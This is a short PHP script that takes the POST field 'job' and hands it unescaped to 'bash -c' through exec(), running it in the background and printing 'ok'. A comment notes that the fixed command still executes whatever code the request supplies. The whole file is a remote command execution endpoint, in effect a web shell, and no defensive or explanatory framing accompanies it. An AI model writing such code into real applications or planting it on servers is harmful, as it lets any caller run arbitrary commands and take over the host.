<?php
// a fixed first word, but one that runs the code it is given: bash -c with the request
$job = $_POST['job'];
exec(sprintf('bash -c %s > /dev/null &', $job));
print "ok";
